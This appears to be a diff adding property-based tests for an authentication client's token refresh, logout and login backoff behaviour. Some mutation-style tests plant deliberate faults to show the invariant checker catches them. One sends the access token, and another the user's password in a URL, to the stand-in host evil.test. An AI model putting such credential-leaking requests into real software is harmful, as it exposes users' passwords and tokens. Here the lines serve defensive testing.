+      run.count('scenario: a refresh with a fault')
+    run.count(`scenario: ${config.instances} instance(s)`)
+    for (const [kind, n] of Object.entries(run.counted)) totals[kind] = (totals[kind] ?? 0) + n
+  }
+  if (run.violations.length > 0) {
+    if (TRACE) console.log(run.trace())
+    throw new Error(run.violations.slice(0, 8).join('\n'))
+  }
 }
 
 afterEach(() => {
@@ -864,6 +1219,51 @@ const BASE_CONFIG: Config = {
 }
 
 const REGRESSIONS: { name: string; config: Config; commands: Command[] }[] = [
+  {
+    name: 'after a refresh that timed out, the last logout renews the expired access token to end the session',
+    config: BASE_CONFIG,
+    commands: [
+      { t: 'refresh', instance: 0 },
+      { t: 'jump', percentOfTtl: 100 },
+    ],
+  },
+  {
+    name: 'a logout whose renewed access token is refused too rejects: that session is still live',
+    config: { ...BASE_CONFIG, ttlSeconds: 1, refreshTimeoutMs: 1_001 },
+    commands: [
+      { t: 'tick', ms: 1_000 },
+      { t: 'logout', instance: 0 },
+      { t: 'deliver', pick: 0, fault: 'ok' },
+      { t: 'deliver', pick: 0, fault: 'ok' },
+      { t: 'tick', ms: 1_000 },
+    ],
+  },
+  {
+    name: "a refresh that completes after logout() began clears the store before a sibling's refresh reads it",
+    config: { ...BASE_CONFIG, ttlSeconds: 1, instances: 3 },
+    commands: [
+      { t: 'jump', percentOfTtl: 50 },
+      {
+        t: 'fetch',
+        instance: 0,
+        target: 'relative',
+        input: 'string',
+        body: 'none',
+        signal: 'none',
+        payload: '',
+      },
+      {
+        t: 'fetch',
+        instance: 1,
+        target: 'relative',
+        input: 'string',
+        body: 'none',
+        signal: 'none',
+        payload: '',
+      },
+      { t: 'logout', instance: 0 },
+    ],
+  },
   {
     name: "logout's renewal of an ended session may overlap the next session's first refresh (model: per session)",
     config: { ...BASE_CONFIG, ttlSeconds: 1, retryDelayMs: 10 },
@@ -999,9 +1399,22 @@ test(
         examples: REGRESSIONS.map((r) => [r.config, r.commands]),
       },
     )
+    if (STATS) console.log(totals)
   },
   Math.max(120_000, RUNS * 100),
 )
+
+// FC_CASE=<file> replays one counterexample as fast-check printed it (`[config, commands]`), with FC_TRACE.
+const CASE = process.env.FC_CASE
+if (CASE !== undefined) {
+  test(`the counterexample in ${CASE}`, async () => {
+    const { readFile } = await import('node:fs/promises')
+    const [config, commands] = JSON.parse(await readFile(CASE, 'utf8')) as [Config, Command[]]
+    const run = await runModel(config, commands)
+    console.log(run.trace())
+    expect(run.violations).toEqual([])
+  })
+}
 
 test.each(REGRESSIONS)('regression: $name', async ({ config, commands }) => {
   const run = await runModel(config, commands)
@@ -1012,9 +1425,98 @@ test('the invariant checks can fail: a client that leaks its token to another or
   const config: Config = { ...BASE_CONFIG, refreshTimeoutMs: 1_000, ttlSeconds: 60 }
   const run = await runModel(config, [])
   expect(run.violations).toEqual([])
-  const token = run.current?.access
+  const token = [...run.api.tokens].find(([, info]) => info.kind === 'access')?.[0]
   expect(token).toBeTypeOf('string')
   const leak = run.api.fetch('https://evil.test/x', { headers: { authorization: `Bearer ${token}` } })
   expect(run.violations).toEqual([expect.stringContaining('Authorization sent to another origin')])
   leak.catch(() => undefined)
+})
+
+const REQUEST: Command = {
+  t: 'fetch',
+  instance: 0,
+  target: 'relative',
+  input: 'string',
+  body: 'none',
+  signal: 'none',
+  payload: '',
+}
+
+test('the invariant checks can fail: a password sent anywhere but the login body is caught', async () => {
+  const run = await runModel(BASE_CONFIG, [], {
+    protocol: (plantly) => ({
+      ...plantly,
+      async login(credentials, context) {
+        const grant = await plantly.login(credentials, context)
+        context.fetch(`https://evil.test/audit?p=${credentials.password}`).catch(() => undefined)
+        return grant
+      },
+    }),
+  })
+  expect(run.violations).toContainEqual(
+    expect.stringContaining('token or password in the URL https://evil.test'),
+  )
+})
+
+test('the invariant checks can fail: a refresh token presented after it was rotated is caught', async () => {
+  const run = await runModel(
+    BASE_CONFIG,
+    [
+      { t: 'refresh', instance: 0 },
+      { t: 'deliver', pick: 0, fault: 'ok' },
+    ],
+    {
+      protocol: (plantly) => ({
+        ...plantly,
+        async refresh(session, context) {
+          const grant = await plantly.refresh(session, context)
+          // "Checks" the old refresh token once more after the rotation.
+          const headers = { authorization: `Bearer ${session.refresh_token}` }
+          context.fetch(`${BASE}/auth/sessions`, { method: 'PUT', headers }).catch(() => undefined)
+          return grant
+        },
+      }),
+    },
+  )
+  expect(run.violations).toContainEqual(
+    expect.stringContaining('a refresh token presented after it was rotated'),
+  )
+})
+
+test('the invariant checks can fail: a logout that leaves the session live on the server is caught', async () => {
+  const run = await runModel({ ...BASE_CONFIG, instances: 3, finalLogout: 2 }, [REQUEST], {
+    protocol: (plantly) => ({ ...plantly, logout: async () => undefined }),
+  })
+  expect(run.violations).toEqual([
+    expect.stringContaining('session 1 is still live on the server after the last logout()'),
+  ])
+})
+
+test('the invariant checks can fail: an unattended login inside the backoff is caught', async () => {
+  const config: Config = {
+    ...BASE_CONFIG,
+    credentials: true,
+    credentialsWrong: true,
+    startLoggedIn: false,
+    loginBackoffMs: 1_000,
+  }
+  const commands: Command[] = [REQUEST, { t: 'deliver', pick: 0, fault: 'ok' }, REQUEST]
+  const kept = await runModel(config, commands)
+  expect(kept.violations).toEqual([])
+  expect(kept.api.history.filter((e) => e.kind === 'login')).toHaveLength(1) // the second call fails at once
+  const broken = await runModel(config, commands, { loginBackoffMs: 0 })
+  expect(broken.violations).toContainEqual(expect.stringContaining('before its backoff ended'))
+})
+
+test('a refresh whose answer was lost is presented again (the one exception, counted): by the retry, or the next refresh', async () => {
+  const config: Config = { ...BASE_CONFIG, refreshTimeoutMs: 1_000, retryDelayMs: 10 }
+  const lost: Command = { t: 'deliver', pick: 0, fault: 'drop-after' }
+  for (const [retry, commands] of [
+    [1, [{ t: 'refresh', instance: 0 }, lost, { t: 'tick', ms: 100 }]],
+    [0, [{ t: 'refresh', instance: 0 }, lost, { t: 'refresh', instance: 0 }]],
+  ] as const) {
+    const run = await runModel({ ...config, retry }, commands)
+    expect(run.violations).toEqual([])
+    expect(run.counted['lost answer, token presented again']).toBe(1)
+  }
 })
